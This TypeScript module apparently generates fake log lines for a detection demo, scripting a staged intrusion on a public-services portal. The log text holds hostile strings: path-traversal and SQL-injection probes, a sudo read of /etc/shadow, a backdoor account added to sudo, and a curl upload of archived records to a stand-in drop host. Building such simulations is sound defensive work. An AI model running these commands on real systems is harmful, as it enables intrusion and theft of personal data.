// The intrusion of the demo day, in six steps against the public-services portal: scan, brute force, login,
// privilege, exfiltration, defacement. Each step is the lines that real devices would have written.

import { ADDRESS, DROP_SITE, INTRUDER } from './city.ts'
import type { DemoLine, Dice } from './line.ts'
import { fortigate, nginxCombined, rfc5424 } from './wire.ts'

const SCANNER = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)'
const PROBES = [
  '/.env',
  '/.git/config',
  '/phpmyadmin/index.php',
  '/wp-login.php',
  '/cgi-bin/../../../../etc/passwd',
  '/backup.zip',
  '/thu-tuc?linh-vuc=1%27%20UNION%20SELECT%20username,password%20FROM%20users--',
]
const GUESSED_NAMES = ['admin', 'root', 'test', 'oracle', 'deploy', 'sysadmin']
const SECOND = 1000
const MINUTE = 60 * SECOND

interface Step {
  readonly name: string
  /** Minutes after the first step. */
  readonly afterMinutes: number
  readonly lines: (at: number, dice: Dice) => DemoLine[]
}

export const INTRUSION_STEPS: readonly Step[] = [
  { name: 'scan', afterMinutes: 0, lines: scan },
  { name: 'brute force', afterMinutes: 25, lines: bruteForce },
  { name: 'login', afterMinutes: 52, lines: login },
  { name: 'privilege', afterMinutes: 58, lines: privilege },
  { name: 'exfiltration', afterMinutes: 80, lines: exfiltration },
  { name: 'defacement', afterMinutes: 110, lines: defacement },
]

/** All lines of the intrusion that begins at a time, in order. */
export function intrusion(start: number, dice: Dice): DemoLine[] {
  return INTRUSION_STEPS.flatMap(step => step.lines(start + step.afterMinutes * MINUTE, dice)).sort(
    (a, b) => a.at - b.at,
  )
}

function scan(at: number, dice: Dice): DemoLine[] {
  return Array.from({ length: 60 }, (_, nth) => {
    const time = at + nth * 2 * SECOND
    const request = {
      from: INTRUDER,
      method: 'GET',
      target: dice.pick(PROBES),
      status: dice.pick([404, 404, 404, 403, 400]),
      bytes: dice.between(150, 600),
      agent: SCANNER,
    }
    return webLine(time, request)
  })
}

function bruteForce(at: number, dice: Dice): DemoLine[] {
  return Array.from({ length: 45 }, (_, nth) => {
    const [name, pid] = [dice.pick(GUESSED_NAMES), 21_000 + nth]
    const time = at + nth * 4 * SECOND
    const known = name === 'root'
    const from = `from ${INTRUDER} port ${dice.between(30_000, 60_000)}`
    const lines = [sshd(time, pid, `Failed password for ${known ? '' : 'invalid user '}${name} ${from} ssh2`)]
    if (!known) lines.unshift(sshd(time, pid, `Invalid user ${name} ${from}`))
    if (nth % 9 === 8)
      lines.push(
        sshd(
          time + SECOND,
          pid,
          `error: maximum authentication attempts exceeded for ${known ? '' : 'invalid user '}${name} ${from} ssh2 [preauth]`,
        ),
      )
    return lines
  }).flat()
}

function login(at: number): DemoLine[] {
  return [
    sshd(at, 21_090, `Accepted password for deploy from ${INTRUDER} port 51444 ssh2`),
    sshd(at + SECOND, 21_090, 'pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)'),
  ]
}

function privilege(at: number): DemoLine[] {
  const sudo = (time: number, command: string): DemoLine =>
    relp(time, 'sudo', 21_130, `  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=${command}`)
  return [
    sudo(at, '/usr/bin/cat /etc/shadow'),
    sudo(at + 40 * SECOND, '/bin/bash'),
    relp(
      at + 90 * SECOND,
      'useradd',
      21_150,
      'new user: name=svc-update, UID=1009, GID=1009, home=/home/svc-update, shell=/bin/bash, from=/dev/pts/0',
    ),
    relp(at + 95 * SECOND, 'usermod', 21_152, "add 'svc-update' to group 'sudo'"),
  ]
}

function exfiltration(at: number): DemoLine[] {
  const body = fortigate(at + 6 * MINUTE, 'traffic', 'forward', 'notice', {
    logid: '0000000013',
    srcip: ADDRESS['dvc-app-01'],
    srcport: 48_212,
    srcintf: 'dmz',
    srcintfrole: 'dmz',
    dstip: DROP_SITE,
    dstport: 443,
    dstintf: 'wan1',
    dstintfrole: 'wan',
    sessionid: 8_812_004,
    proto: 6,
    action: 'close',
    policyid: 7,
    policytype: 'policy',
    service: 'HTTPS',
    duration: 342,
    sentbyte: 2_684_354_560,
    rcvdbyte: 1_204_400,
    sentpkt: 1_841_000,
    rcvdpkt: 22_000,
    appcat: 'unscanned',
  })
  return [
    relp(
      at,
      'sudo',
      21_201,
      '  deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.cache.tgz /srv/dvc/ho-so',
    ),
    relp(
      at + 90 * SECOND,
      'sudo',
      21_207,
      `  deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -T /tmp/.cache.tgz https://${DROP_SITE}/u`,
    ),
    { at: at + 6 * MINUTE, road: 'syslog-tcp', text: `<189>${body}` },
  ]
}

function defacement(at: number): DemoLine[] {
  const put = {
    from: INTRUDER,
    method: 'PUT',
    target: '/index.html',
    status: 201,
    bytes: 0,
    agent: 'curl/8.11.0',
  }
  const cms = {
    '@timestamp': new Date(at + 5 * SECOND).toISOString(),
    'host.name': 'dvc-web-01',
    'event.dataset': 'cms.audit',
    'event.action': 'page-replaced',
    'file.path': '/srv/www/dvc/index.html',
    'user.name': 'svc-update',
    message: 'Trang chủ bị thay thế ngoài quy trình xuất bản',
  }
  return [webLine(at, put), { at: at + 5 * SECOND, road: 'ingest', text: JSON.stringify(cms) }]
}

function webLine(at: number, request: Parameters<typeof nginxCombined>[1]): DemoLine {
  return {
    at,
    road: 'syslog-tcp',
    text: rfc5424(at, 190, 'dvc-web-01', 'nginx', '-', nginxCombined(at, request)),
  }
}

function sshd(at: number, pid: number, message: string): DemoLine {
  return relp(at, 'sshd', pid, message)
}

function relp(at: number, app: string, pid: number, message: string): DemoLine {
  return { at, road: 'relp', text: rfc5424(at, 86, 'dvc-app-01', app, pid, message) }
}
